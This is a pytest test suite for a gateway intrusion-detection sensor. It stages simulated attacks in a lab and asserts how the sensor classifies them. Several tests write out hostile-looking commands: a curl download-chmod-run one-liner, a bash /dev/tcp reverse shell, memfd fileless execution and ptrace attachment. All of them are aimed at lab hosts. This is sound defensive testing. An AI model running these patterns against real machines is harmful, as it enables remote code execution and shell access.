"""What intrusions do on a gateway, done for real: each is told with all that led to it, a near miss is not."""

import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from lab import Lab
from lab.home import DEVICES
from tests.gateway.deeds import (
    ATTACH,
    FAR,
    LISTEN,
    MANY,
    MEMFD,
    NEAR_SHELL,
    RAW,
    SHELL,
    TRACED,
    TURNED_OVER,
    TYPIST,
)
from tests.gateway.process_scene import (
    HOMES,
    PYTHON,
    WRITABLE,
    ProcessScene,
    executables,
    process_scene,
)
from tests.gateway.sensor_process import until
from tests.gateway.talking import SERVER

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

LAPTOP = DEVICES["laptop"].ipv4
BASH = Path("/usr/bin/bash")


@pytest.fixture(scope="module")
def scene(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProcessScene]:
    with process_scene(lab, tmp_path_factory.mktemp("scene")) as made:
        made.start(PYTHON, "-c", TYPIST, host="internet")
        made.learnt = made.program(made.talker, "learnt")
        made.call(made.learnt, SERVER)
        made.end_learning()
        yield made
        print({name: round(took, 2) for name, took in sorted(made.took.items())})


def check(event: dict[str, Any], kind: str, severity: str, *chain: Path | str) -> dict[str, Any]:
    """Assert what kind of event it is, and which programs led to it; return its evidence."""
    assert (event["kind"], event["severity"]) == (kind, severity)
    # A shell that ended before it was read is told by the path that was asked for, /bin/sh
    told = [os.path.realpath(each) for each in executables(event)]
    assert told[: len(chain)] == [str(each) for each in chain]
    evidence: dict[str, Any] = event["evidence"]
    assert all(each["pid"] > 0 for each in evidence["chain"])
    assert evidence["why"].endswith(".")
    return evidence


def connection(evidence: dict[str, Any]) -> tuple[str, int]:
    """Return whom the one connection leads to."""
    (only,) = evidence["connections"]
    assert (only["community_id"] is None) == (only["port"] is None)
    return only["peer_address"], only["peer_port"]


def dropped(scene: ProcessScene, address: str) -> tuple[Path, Path, Path]:
    """Download a program, make it executable and run it; return shell, downloader and program."""
    shell, curl = scene.program(BASH, "bash"), Path("/usr/bin/curl")
    load = shell.parent / "load"
    script = f"{curl} -s -o {load} file://{scene.talker}; chmod +x {load}; {load} connect {address} 80 1; exit"
    scene.run(shell, "-c", script)
    return shell, curl, load


def test_a_program_that_was_downloaded_is_run_and_calls(scene: ProcessScene) -> None:
    began = time.time()
    shell, curl, load = dropped(scene, SERVER)
    event = scene.event("dropped_and_run", load, began)
    evidence = check(event, "exec_and_connect", "high", load, shell)
    assert {(each["path"]) for each in evidence["files"]} == {str(load)}
    assert evidence["files"][0]["by"] in (str(curl), "/usr/bin/chmod")
    assert connection(evidence) == (SERVER, 80)
    assert str(load) in evidence["chain"][0]["command_line"]


def test_a_program_that_was_downloaded_and_calls_nobody_but_itself_is_none(
    scene: ProcessScene,
) -> None:
    *_, load = dropped(scene, "127.0.0.1")
    assert scene.is_silent(load)


def test_a_package_s_program_is_none(scene: ProcessScene, tmp_path: Path) -> None:
    """It is written by dpkg."""
    package, root = tmp_path / "package", scene.place / "root"
    (package / "DEBIAN").mkdir(parents=True)
    (package / "DEBIAN" / "control").write_text(
        "Package: load\nVersion: 1\nArchitecture: all\nMaintainer: a <a@b.example>\nDescription: a\n"
    )
    (package / "usr").mkdir()
    (package / "usr" / "load").write_bytes(scene.talker.read_bytes())
    (package / "usr" / "load").chmod(0o755)
    (root / "var/lib/dpkg/updates").mkdir(parents=True)
    (root / "var/lib/dpkg/status").touch()
    built = tmp_path / "load.deb"
    scene.run("/usr/bin/dpkg-deb", "--build", package, built)
    scene.run("/usr/bin/dpkg", f"--root={root}", "-i", built)
    load = root / "usr" / "load"
    assert scene.call(load, LAPTOP) == "Connection refused"
    assert scene.is_silent(load)


def test_a_program_that_runs_from_memory_calls(scene: ProcessScene) -> None:
    loader = scene.program(PYTHON, "loader")
    began = time.time()
    scene.start(loader, "-c", MEMFD, scene.talker, "hold", SERVER, FAR)
    event = scene.event("memfd_and_run", loader, began)
    evidence = check(event, "exec_and_connect", "high", "/memfd:kworker", loader)
    assert connection(evidence) == (SERVER, int(FAR))


def test_one_that_runs_from_memory_for_a_moment(scene: ProcessScene) -> None:
    """It may be gone before anybody looks: then it is told by what was asked for."""
    loader = scene.program(PYTHON, "loader")
    began = time.time()
    scene.run(loader, "-c", MEMFD, scene.talker, "connect", SERVER, "80")
    event = scene.first(("memfd_for_a_moment", "memfd_and_run"), loader, began)
    evidence = check(event, "exec_and_connect", "high")
    assert executables(event)[0] in ("/dev/fd/3", "/memfd:kworker")
    assert executables(event)[1] == str(loader)
    assert connection(evidence) == (SERVER, 80)


def test_one_that_runs_from_memory_and_calls_itself_is_none(scene: ProcessScene) -> None:
    loader = scene.program(PYTHON, "loader")
    scene.run(loader, "-c", MEMFD, scene.talker, "connect", "127.0.0.1", "80")
    assert scene.is_silent(loader)


def test_what_runs_containers_runs_from_memory(scene: ProcessScene) -> None:
    runc = scene.program(PYTHON, "runc")
    scene.run(runc, "-c", MEMFD, scene.talker, "connect", LAPTOP, "80")
    assert scene.is_silent(runc)


def test_a_shell_on_a_connection(scene: ProcessScene) -> None:
    python, shell = scene.program(PYTHON, "thing"), scene.program(BASH, "bash")
    began = time.time()
    scene.run(python, "-c", TURNED_OVER, shell)
    event = scene.event("reverse_shell", shell, began)
    check(event, "suspicious_syscall", "high", shell, python)
    assert event["process"] == str(shell)


def test_a_shell_that_turns_itself_over(scene: ProcessScene) -> None:
    shell = scene.program(BASH, "bash")
    began = time.time()
    scene.run(shell, "-c", f"exec 0<>/dev/tcp/{SERVER}/{FAR}; read -r word")
    # Of one connection it is told once: by whichever pattern saw it first
    event = scene.first(("shell_turned_over", "reverse_shell"), shell, began)
    check(event, "suspicious_syscall", "high", shell)
    assert event["peer_address"] == SERVER


@pytest.mark.parametrize("way", ["pipe", "beside", "socket of this host"])
def test_a_shell_without_a_connection_for_its_input(scene: ProcessScene, way: str) -> None:
    python, shell = scene.program(PYTHON, "thing"), scene.program(BASH, "bash")
    lines: dict[str, list[str | Path]] = {
        "pipe": ["/bin/sh", "-c", f"echo 'sleep 1.5' | {shell}"],
        "beside": [shell, "-c", f"exec 3<>/dev/tcp/{LAPTOP}/22; sleep 1.5; exit"],
        "socket of this host": [python, "-c", NEAR_SHELL, shell],
    }
    scene.run(*lines[way])
    assert scene.is_silent(shell)


def test_a_server_of_inetd_has_a_connection_for_its_input(scene: ProcessScene) -> None:
    python, shell = scene.program(PYTHON, "inetd"), scene.program(BASH, "bash")
    scene.run(python, "-c", TURNED_OVER, shell)
    assert scene.is_silent(shell), scene.of(shell)


@pytest.mark.parametrize("family", [("2", "3", "1"), ("17", "2", "768")], ids=["raw", "packet"])
def test_a_raw_socket(scene: ProcessScene, family: tuple[str, ...]) -> None:
    sniffer = scene.program(PYTHON, "sniffer")
    began = time.time()
    scene.run(sniffer, "-c", RAW, *family)
    check(scene.event("raw_socket", sniffer, began), "suspicious_syscall", "medium", sniffer)


def test_tools_for_it_and_usual_sockets_are_none(scene: ProcessScene) -> None:
    program = scene.program(PYTHON, "program")
    for family in (("2", "1", "0"), ("10", "2", "0"), ("16", "3", "0")):
        scene.run(program, "-c", RAW, *family)
    scene.run(
        "/usr/bin/timeout",
        "0.5",
        "/usr/bin/tcpdump",
        "-i",
        "lo",
        "-c",
        "1",
        "-w",
        "/dev/null",
        "--immediate-mode",
    )
    scene.run("/usr/bin/ping", "-c", "1", "127.0.0.1")
    assert scene.is_silent(program)
    assert scene.of("/usr/bin/tcpdump") == []
    assert scene.of("/usr/bin/ping") == []


@pytest.mark.parametrize("folder", WRITABLE, ids=str)
def test_a_program_where_anybody_may_put_files(scene: ProcessScene, folder: Path) -> None:
    place = folder / scene.place.name
    program = scene.program(scene.talker, "thing", place)
    began = time.time()
    scene.call(program, SERVER)
    event = scene.event("from_writable_place", program, began)
    evidence = check(event, "unexpected_process", "high", program)
    assert connection(evidence) == (SERVER, 80)


@pytest.mark.parametrize("address", [LAPTOP, "127.0.0.1"])
def test_one_that_calls_the_home_only_is_none(scene: ProcessScene, address: str) -> None:
    program = scene.program(scene.talker, "thing", scene.writable)
    scene.call(program, address)
    assert scene.is_silent(program)


def test_a_program_in_a_home_folder(scene: ProcessScene) -> None:
    program = scene.program(scene.talker, "thing", HOMES / scene.place.name)
    began = time.time()
    scene.call(program, SERVER)
    event = scene.event("from_home_folder", program, began)
    check(event, "unexpected_process", "medium", program)


def test_a_program_that_talks_for_the_first_time(scene: ProcessScene) -> None:
    program = scene.program(scene.talker, "thing")
    began = time.time()
    scene.call(program, SERVER)
    event = scene.event("new_talker", program, began)
    evidence = check(event, "unexpected_process", "low", program)
    assert connection(evidence) == (SERVER, 80)


def test_one_that_was_learnt_is_none(scene: ProcessScene) -> None:
    neighbour = scene.program(scene.talker, "thing")
    scene.call(scene.learnt, SERVER)
    scene.call(neighbour, LAPTOP)
    assert scene.is_silent(scene.learnt)
    assert scene.of(neighbour) == []


def test_a_new_listener_that_is_accepted(scene: ProcessScene) -> None:
    program = scene.program(PYTHON, "server")
    began = time.time()
    scene.run(program, "-c", LISTEN, "0.0.0.0", "4321")
    event = scene.event("new_listener", program, began)
    evidence = check(event, "unexpected_process", "medium", program)
    assert evidence["listeners"] == ["tcp/4321"]
    scene.sensor.call("accept", str(event["seq"]))
    scene.run(program, "-c", LISTEN, "0.0.0.0", "4321")
    scene.run(program, "-c", LISTEN, "0.0.0.0", "4322")
    assert until(lambda: len(scene.of(program)) == 2, 5)
    assert scene.of(program)[1]["evidence"]["listeners"] == ["tcp/4322"]
    assert [
        each["count"] for each in scene.sensor.call("events") if each["seq"] == event["seq"]
    ] == [1]


@pytest.mark.parametrize(("address", "port"), [("127.0.0.1", "4323"), ("0.0.0.0", "45678")])
def test_listeners_that_nobody_is_told_of(scene: ProcessScene, address: str, port: str) -> None:
    program = scene.program(PYTHON, "server")
    scene.run(program, "-c", LISTEN, address, port)
    assert scene.is_silent(program)


def test_a_server_that_begins_a_shell(scene: ProcessScene) -> None:
    nginx = scene.program(PYTHON, "nginx")
    began = time.time()
    scene.run(nginx, "-c", SHELL)
    event = scene.event("server_shell", nginx, began)
    check(event, "suspicious_syscall", "high", "/usr/bin/dash", nginx)
    assert event["process"] == str(nginx)


def test_a_service_that_begins_a_shell(scene: ProcessScene) -> None:
    program = scene.program(PYTHON, "thing")
    began = time.time()
    scene.run(program, "-c", SHELL, group=scene.group("foo.service"))
    event = scene.event("service_shell", program, began)
    check(event, "suspicious_syscall", "medium", "/usr/bin/dash", program)
    assert "foo.service" in event["summary"]


def test_what_is_for_shells_begins_them(scene: ProcessScene) -> None:
    program, other = scene.program(PYTHON, "thing"), scene.program(PYTHON, "thing")
    scene.run(program, "-c", SHELL, group=scene.group("cron.service"))
    scene.run(other, "-c", SHELL)
    assert scene.is_silent(program)
    assert scene.of(other) == []


@pytest.mark.parametrize("request_", ["16", "0x4206"], ids=["attach", "seize"])
def test_a_hold_on_another_process(scene: ProcessScene, request_: str) -> None:
    program = scene.program(PYTHON, "thing")
    began = time.time()
    pid, result = scene.run(program, "-c", ATTACH, request_).split()
    assert result == "0"
    event = scene.event("ptrace_other", program, began)
    check(event, "suspicious_syscall", "high", program)
    assert f"took hold of the process {pid}" in event["summary"]


def test_debuggers_and_who_asks_to_be_traced_are_none(scene: ProcessScene) -> None:
    program = scene.program(PYTHON, "thing")
    scene.run(program, "-c", TRACED)
    scene.run("/usr/bin/strace", "-o", "/dev/null", "-p", "1", "-e", "none", "sleep", "0.1")
    scene.run("/usr/bin/strace", "-f", "-o", "/dev/null", "sleep", "0.1")
    assert scene.is_silent(program)
    assert scene.of("/usr/bin/strace") == []


def test_a_program_that_calls_many(scene: ProcessScene) -> None:
    """It is judged as a device is."""
    program = scene.program(PYTHON, "thing")
    began = time.time()
    scene.run(program, "-c", MANY, "192.168.10", "60", "23")

    def scans() -> list[dict[str, Any]]:
        return [each for each in scene.of(program) if each["kind"] == "address_scan"]

    assert until(lambda: bool(scans()), 20), scene.of(program)
    scene.took["address_scan"] = time.time() - began
    assert scans()[0]["severity"] == "high"
    assert scans()[0]["evidence"]["flows"][0]["community_id"].startswith("1:")


def test_what_is_behind_an_event_is_explained(scene: ProcessScene) -> None:
    shell, _, load = dropped(scene, SERVER)
    event = scene.event("dropped_and_run", load, time.time())
    said = scene.sensor.say("explain", str(event["seq"]))
    for each in (str(load), str(shell), SERVER, f"block --socket {scene.sensor.socket} exe:{load}"):
        assert each in said, said


def test_a_pattern_that_is_off_for_a_program_is_off(scene: ProcessScene) -> None:
    program = scene.program(scene.talker, "thing", scene.writable)
    scene.sensor.call("policy", "set", f"program.{program}", "patterns.from_writable_place=off")
    scene.call(program, SERVER)
    assert scene.is_silent(program)


def test_a_response_cuts_a_program_off(scene: ProcessScene) -> None:
    program = scene.program(scene.talker, "thing", scene.writable)
    scene.sensor.call(
        *("policy", "set", f"program.{program}"),
        'respond=[{kind="unexpected_process", severity="high", action="block_process", duration="1m"}]',
    )
    began = time.time()
    assert scene.call(program, SERVER) == "ok"
    assert until(lambda: scene.call(program, SERVER) == "Operation not permitted", 5)
    scene.took["block_process"] = time.time() - began
    (block,) = scene.sensor.call("blocks")
    assert block["target"] == f"exe:{program}"
    assert block["reason"].startswith("unexpected_process: ")
    assert scene.call(scene.learnt, SERVER) == "ok"
    scene.sensor.call("unblock", block["target"])
